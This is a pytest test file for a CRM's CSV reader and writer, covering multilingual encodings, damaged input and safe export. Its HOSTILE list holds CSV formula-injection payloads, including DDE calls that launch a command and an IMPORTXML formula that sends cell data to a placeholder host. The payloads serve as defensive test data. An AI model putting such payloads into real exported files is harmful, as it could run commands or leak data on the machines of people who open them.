"""CSV in every encoding and separator, damaged in every way, and out both inert and exact."""

import csv
import random
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crmdesk.exchange import csv_file
from crmdesk.exchange.csv_file import made_inert, open_table, write_table
from crmdesk.exchange.tables import BLOCK, LONGEST_CELL, MOST_COLUMNS
from crmdesk.l10n.errors import CrmError

TEXTS = {
    "fa": [
        ["نام", "شركت", "تلفن", "شهر"],
        ["علي رضايي", "كيميا گستر", "09121234567", "تهران"],
        ["مريم احمدي", "پارس خودرو", "02188776655", "اصفهان"],
        ["ژاله گرجي", "چاپ پيام", "03111234567", "شيراز"],
    ],
    "ar": [
        ["الاسم", "الشركة", "الهاتف", "المدينة"],
        ["أحمد علي", "شركة النور للتجارة", "0501234567", "الرياض"],
        ["فاطمة حسن", "مؤسسة الأعمال", "0101234567", "القاهرة"],
    ],
    "he": [
        ["שם", "חברה", "טלפון", "עיר"],
        ["דוד כהן", "אלביט מערכות", "0541234567", "תל אביב"],
        ["רחל לוי", "בנק הפועלים", "031234567", "ירושלים"],
    ],
    "en": [
        ["name", "company", "phone", "city"],
        ["José Pérez", "Café Zürich", "555", "Málaga"],
        ["a", "b", "c", "d"],
    ],
}
ENCODED = [
    *[(language, encoding) for language in TEXTS for encoding in ("utf-8", "utf-8-sig", "utf-16")],
    ("en", "utf-16-le"),
    ("en", "utf-16-be"),
    ("fa", "cp1256"),
    ("ar", "cp1256"),
    ("ar", "iso8859_6"),
    ("he", "cp1255"),
    ("he", "iso8859_8"),
    ("en", "cp1252"),
]


def read(path, **options):
    table = open_table(path, **options)
    return [table.header, *[cells for _, cells in table.rows()]]


@pytest.fixture
def file(tmp_path):
    def write(content, encoding="utf-8"):
        path = tmp_path / "people.csv"
        path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
        return path

    return write


@pytest.mark.parametrize(("language", "encoding"), ENCODED)
@pytest.mark.parametrize("delimiter", csv_file.DELIMITERS)
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_every_usual_file_is_read_without_being_told(file, language, encoding, delimiter, end):
    if delimiter == "،" and encoding in ("cp1255", "iso8859_8", "cp1252"):
        pytest.skip("this encoding has no Arabic comma")
    rows = TEXTS[language]
    table = open_table(file("".join(delimiter.join(row) + end for row in rows), encoding))
    assert [table.header, *[cells for _, cells in table.rows()]] == rows
    assert table.delimiter == delimiter


def test_legacy_letters_far_down_a_plain_file_are_found(file):
    lines = ["name;city"] + [f"Person {n};London" for n in range(20_000)] + ["علي;تهران", "مريم;اصفهان"]
    assert read(file("\r\n".join(lines), "cp1256"))[-2:] == [["علي", "تهران"], ["مريم", "اصفهان"]]


def test_what_is_told_is_obeyed(file):
    path = file("a;b,c\n1;2,3\n")
    assert read(path, delimiter=",") == [["a;b", "c"], ["1;2", "3"]]
    assert read(path, delimiter=";") == [["a", "b,c"], ["1", "2,3"]]
    assert read(file("é\nà\n", "cp1252"), encoding="windows-1252") == [["é"], ["à"]]
    assert read(file("sep=|\na|b\n1|2\n")) == [["a", "b"], ["1", "2"]]
    for wrong in (
        {"encoding": "klingon"},
        {"encoding": "hex"},
        {"delimiter": ""},
        {"delimiter": ";;"},
        {"sheet": "A"},
    ):
        with pytest.raises(CrmError):
            open_table(path, **wrong)


def test_lines_are_counted_as_an_editor_does_and_rows_read_twice(file):
    table = open_table(file('\na,b\n1,"two\nlines"\n\n3\n4,5,,\n6,7,8\n,\n'))
    rows = [(3, ["1", "two\nlines"]), (6, ["3", ""]), (7, ["4", "5"]), (8, ["6", "7", "8"])]
    assert list(table.rows()) == list(table.rows()) == rows


def test_lines_are_counted_in_long_files_of_rows_on_several_lines(file):
    chance = random.Random(6)
    cells = ["", "x", "two\nlines", "a\r\nb", "c\rd\r\re", "\n", '"', "é\u2028f"]
    rows = [["a", "b"], *([chance.choice(cells), chance.choice(cells)] for _ in range(2000))]
    ends = [chance.choice(["\n", "\n\n", "\r\n", "\r"]) for _ in rows]
    quoted = [",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows]
    expected, line = [], 1
    for row, text, end in zip(rows, quoted, ends, strict=True):
        if any(row):
            expected.append((line, [cell.replace("\r\n", "\n").replace("\r", "\n") for cell in row]))
        line += len(re.findall("\r\n|\r|\n", text + end))
    path = file("".join(map("".join, zip(quoted, ends, strict=True))).encode())
    assert list(open_table(path, delimiter=",").rows()) == expected[1:]


def test_no_block_of_rows_is_empty(file):
    assert list(open_table(file("a,b\n")).blocks()) == []
    blocks = list(open_table(file("a,b\n" + "1,2\n" * 1000 + ",\n" * 1000 + "3,4\n")).blocks())
    assert [cells for block in blocks for _line, cells in block] == [["1", "2"]] * 1000 + [["3", "4"]]
    assert all(blocks)
    assert max(map(len, blocks)) <= BLOCK


def test_decimal_commas_do_not_pass_for_separators(file):
    assert read(file("price;qty\n1,5;2,5\n1,25;3\n")) == [["price", "qty"], ["1,5", "2,5"], ["1,25", "3"]]


def test_removed_characters_are_told(file):
    table = open_table(file("a,b\nx\x00y,\u202ez\u200f\n"))
    assert list(table.rows()) == [(2, ["xy", "z"])]
    assert [note.count for note in table.notes] == [3]
    assert "3" in table.notes[0].message.format(count=table.notes[0].count)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "empty"),
        (b"\n\n,,\n", "empty"),
        ("\ufeff".encode(), "empty"),
        (bytes(range(256)) * 40, "not a text file"),
        (b"PK\x03\x04" + b"x" * 100, "not a text file"),
        (b"%PDF-1.7 whatever", "not a text file"),
        (("a,b\n" + "x" * (LONGEST_CELL + 1) + ",1\n").encode(), "more than"),
        ((",".join(["c"] * (MOST_COLUMNS + 1)) + "\n").encode(), "columns"),
        ((b"x" * 9 * LONGEST_CELL), "more than"),
    ],
)
def test_what_is_no_table_is_refused_in_a_sentence(file, content, told):
    with pytest.raises(CrmError, match=told):
        read(file(content))


def test_a_missing_file_and_a_folder_are_refused(tmp_path):
    for path in (tmp_path / "none.csv", tmp_path):
        with pytest.raises(CrmError):
            open_table(path)


@pytest.mark.parametrize("rest", ["", '7,"x",8\n', '7,"","y"\n'])
def test_an_unclosed_quote_is_told_with_its_line(file, rest):
    rows = ["name,note,n"] + [f"n{n},plain,{n}" for n in range(500)]
    rows[301] = 'n300,"never closed,300'
    table = open_table(file("\n".join(rows) + "\n" + rest))
    good = []
    with pytest.raises(CrmError, match="quotation mark") as told:
        good.extend(table.rows())
    assert told.value.params["line"] == 302
    assert len(good) == 300


def test_an_unclosed_quote_in_a_big_file_is_not_called_a_big_cell(file):
    path = file('a,b\n1,"open\n' + "some,row\n" * 200_000)
    with pytest.raises(CrmError, match="quotation mark") as told:
        read(path)
    assert told.value.params["line"] == 2


def test_wrong_bytes_are_told_with_their_place(file):
    path = file(b"a,b\n" + b"1,2\n" * 5000 + b"\xff\xfe,3\n")
    with pytest.raises(CrmError, match="encoding") as told:
        read(path, encoding="utf-8")
    assert 2 < told.value.params["line"] <= 5002


WORDS = {
    "fa": "علي رضايي مريم احمدي كيميا تهران اصفهان شيراز پارس گستر ژاله چاپ خودرو پيام شركت بازرگاني",
    "ar": "أحمد فاطمة حسن شركة النور للتجارة مؤسسة الأعمال الرياض القاهرة المدينة محمد العربية خالد",
    "he": "דוד כהן רחל לוי אלביט מערכות בנק הפועלים ירושלים חיפה אביב שרה יעקב משה רבקה תלמיד",
    "en": "José Pérez Café Zürich Málaga Renée Müller Ångström Façade Señor Noël Société Köln Brontë",
}
BROKEN_BYTES = {
    "utf-8": (b"\xff", b"\xed\xa0\x80", b"\xd9"), "utf-8-sig": (b"\xff", b"\xed\xa0\x80", b"\xd9"),
    "utf-16": (b"\x00\xd8", b"\x12\xdc", b"\xff\xdb"), "cp1255": (b"\xff", b"\xd9", b"\xfc"),
    "iso8859_6": (b"\xff", b"\xa5", b"\xdb"), "iso8859_8": (b"\xff", b"\xdb", b"\xfb"), "cp1252": (b"\x81", b"\x8d", b"\x9d"),
}  # fmt: skip
"""Bytes that are no letter in an encoding; every byte is one in cp1256."""


def damaged(language, encoding, lines, *, size):
    """A file of `size` rows whose rows on `lines` have one byte that is no letter, and the rows as they are."""
    dice = random.Random(f"{language}{encoding}{size}")
    rows = [[" ".join(dice.choices(WORDS[language].split(), k=2)) for _cell in range(3)] for _row in range(size)]
    text = "name,city,note\n" + "".join(",".join(row) + "\n" for row in rows)
    start = "".encode(encoding)
    parts = text.encode(encoding).removeprefix(start).split("\n".encode(encoding).removeprefix(start))
    for bad, line in enumerate(lines):
        parts[line - 1] = BROKEN_BYTES[encoding][bad] + parts[line - 1]
    return start + "\n".encode(encoding).removeprefix(start).join(parts), rows


@pytest.mark.parametrize("lines", [(), (1 + 3,), (2, 7, 12)])
@pytest.mark.parametrize("size", [40, 3000])
@pytest.mark.parametrize(("language", "encoding"), [one for one in ENCODED if one[1] in BROKEN_BYTES])
def test_a_bad_byte_costs_its_row_and_no_other(file, language, encoding, size, lines):
    content, rows = damaged(language, encoding, lines, size=size)
    table = open_table(file(content))
    found = dict(table.rows())
    assert [found[line] for line in found if line not in lines] == [
        row for line, row in enumerate(rows, 2) if line not in lines
    ]
    assert {line: told.place for line, told in table.refused.items()} == dict.fromkeys(lines, 0)
    assert all("\ufffd" in found[line][0] for line in lines)
    told = [(note.name, note.count) for note in table.notes]
    assert told == ([] if encoding.startswith("utf-8") else [(table.encoding, 0)])


def test_a_refused_row_is_told_with_its_line_and_its_file(file):
    table = open_table(file("نام,شهر\nعلی,تهران\nمریم,".encode() + b"\xff" + "کرج\n".encode()))
    list(table.rows())
    [(line, told)] = table.refused.items()
    assert (line, told.place) == (3, 1)
    assert str(told) == "Line 3 of “people.csv” is damaged: it has a character that cannot be read."


def test_an_encoding_that_a_person_names_is_not_told_back(file):
    path = file("name,city\nJosé,Málaga\n", "cp1252")
    for told, notes in (("cp1252", []), (None, ["cp1252"])):
        table = open_table(path, encoding=told)
        list(table.rows())
        assert [note.name for note in table.notes] == notes


def test_half_a_unit_of_utf_16_stops_the_file(file):
    content, _rows = damaged("fa", "utf-16", (), size=50)
    with pytest.raises(CrmError):
        read(file(content[:301] + b"\xff" + content[301:]))


HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", '"=1+1"', '"=1+1', "＝1+1",
    "＋cmd|'x'!A1", "－2+3+cmd|'x'!A0", "＠SUM(1)", "−2+3+cmd|'x'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1", "-1+1",
    '=DDE("cmd";"/C calc";"x")', '=IMPORTXML(CONCAT("http://x?",A1),"//a")', "+A1", "-A1", "@A1", "--1",
    ";=1+1", "a;=1+1", "a\t=1+1", "a|=1+1", "a\n=cmd|'x'!A0", 'a";"=1+1', "a,=1+1", "\ufeff=1+1", "\u200b=1+1",
    "=", "+", "-", "@",
]  # fmt: skip
PLAIN = [
    "+98 912 345 6789", "+989123456789", "+982188776655 ext. 12", "+98 (21) 8877-6655", "+98\u00a021\u00a08877",
    "+989123456789\n+982188776655", "+98 912 345 6789; 021 8877 6655", "+۹۸۹۱۲۳۴۵۶۷۸۹", "-42", "-1,250.50", "−۱٬۲۵۰", "+5%", "-12/5", "- 5",
    "AT&T", "a=b", "x@y.com", "2-1", "Ali; -5; +989123456789", "Dear Sir,\n- one\n- two", "5 + 3", "", "'=1",
]  # fmt: skip


def is_computed(cell):
    """Whether a spreadsheet may take a cell for a formula: what it is shown starts with a computing sign."""
    seen = cell.lstrip(' "\u00a0\u200b\ufeff\n')
    return seen[:1] in tuple("=+-@\t\r＝＋－＠−")


def test_there_are_forty_hostile_values_and_all_are_hostile():
    assert len(set(HOSTILE)) == 40
    assert sum(map(is_computed, HOSTILE)) == 40 - sum(text[0] in "a;" for text in HOSTILE)


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_export_is_inert_at_whatever_separator_it_is_split(tmp_path, text):
    path = tmp_path / "out.csv"
    write_table(path, ["a", "b"], [[text, "x"]], exact=False)
    content = path.read_text(encoding="utf-8-sig")
    for delimiter in ",;\t|":
        for row in csv.reader(content.splitlines(keepends=True), delimiter=delimiter):
            assert not any(map(is_computed, row))


@pytest.mark.parametrize("text", PLAIN)
def test_phones_numbers_and_plain_texts_are_never_changed(text):
    assert made_inert(text) == text


@given(st.text(max_size=30))
def test_safe_export_only_adds_apostrophes(text):
    guarded = made_inert(text)
    assert guarded.replace("'", "") == text.replace("'", "")
    assert made_inert(guarded).startswith(guarded[:1])


@pytest.mark.parametrize(
    "text", [*HOSTILE, *PLAIN, 'say "hi"', "a,b", "two\nlines", " edge ", "می‌رود", "👩‍💻", "x" * 100_000]
)
def test_exact_export_comes_back_as_it_was(tmp_path, text):
    path = tmp_path / "out.csv"
    write_table(path, ["text", "x"], [[text, "end"]], exact=True)
    kept = text.replace("\r", "\n").replace("\ufeff", "")
    assert read(path) == [["text", "x"], [kept, "end"]]


@pytest.mark.parametrize(
    "text", [*HOSTILE, *PLAIN, "- call\n- mail", "'quoted'", "it's"]
)
def test_safe_export_comes_back_without_its_apostrophes(tmp_path, text):
    if text == "'=1":
        pytest.skip("A text that begins like a guarded one is read as that")
    path = tmp_path / "out.csv"
    write_table(path, ["text", "x"], [[text, "end"]], exact=False)
    kept = text.replace("\r", "\n").replace("\ufeff", "")
    assert read(path) == [["text", "x"], [kept, "end"]]


@given(st.text(st.sampled_from("=+-@'\"; ,\t\nab1("), max_size=12))
def test_what_is_made_inert_is_made_so_again(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("out") / "out.csv"
    write_table(path, ["x", "text"], [["x", text]], exact=False)
    [_header, [_x, found]] = read(path)
    assert made_inert(found) == made_inert(text)


def test_apostrophes_of_other_files_stay(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("text,x\n'=1+1,end\n", encoding="utf-8")
    assert read(path) == [["text", "x"], ["'=1+1", "end"]]
    path.write_text("text,x\n'Round the clock',end\n", encoding="utf-8-sig")
    assert read(path) == [["text", "x"], ["'Round the clock'", "end"]]


@given(
    st.lists(
        st.lists(
            st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cf", "Cs"])),
            min_size=3,
            max_size=3,
        )
    )
)
def test_any_texts_come_back_from_an_exact_export(tmp_path_factory, rows):
    path = tmp_path_factory.mktemp("out") / "out.csv"
    write_table(path, ["a", "b", "c", "d"], [["x", *row] for row in rows], exact=True)
    table = open_table(path, delimiter=",")
    noncharacters = str.maketrans("", "", "\ufffe\uffff")
    assert [cells for _, cells in table.rows()] == [
        ["x", *[cell.translate(noncharacters) for cell in row]] for row in rows
    ]


def test_values_are_written_so_that_any_program_reads_them(tmp_path):
    path = tmp_path / "out.csv"
    moment = datetime(2026, 10, 12, 9, 30, tzinfo=UTC)
    write_table(
        path,
        list("abcdef"),
        [[1, Decimal("-2.50"), date(2026, 1, 2), moment, None, ""]],
        exact=False,
        rtl=True,
    )
    assert read(path)[1] == ["1", "-2.50", "2026-01-02", "2026-10-12T09:30:00+00:00", "", ""]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")


def test_a_tsv_file_has_tabs(tmp_path):
    path = tmp_path / "out.tsv"
    write_table(path, ["a", "b"], [["1,5", "x\ty"]], exact=True)
    assert path.read_text() == 'a\tb\n1,5\t"x\ty"\n'
    assert read(path) == [["a", "b"], ["1,5", "x\ty"]]


def test_big_files_are_streamed(tmp_path):
    import tracemalloc

    path = tmp_path / "big.csv"
    write_table(path, ["n", "name"], ([n, "شرکت نمونه"] for n in range(200_000)), exact=True)
    table = open_table(path)
    tracemalloc.start()
    count = sum(1 for _ in table.rows())
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 200_000
    assert peak < 2_000_000


def test_any_bytes_are_a_table_or_politely_refused(file):
    chance = random.Random(7)
    good = 'نام,شهر\nعلی,تهران\n"x, y",z\n'.encode()
    for _ in range(300):
        content = bytearray(good * chance.randrange(1, 4))
        for _ in range(chance.randrange(1, 6)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        try:
            read(file(bytes(content)))
        except CrmError:
            continue
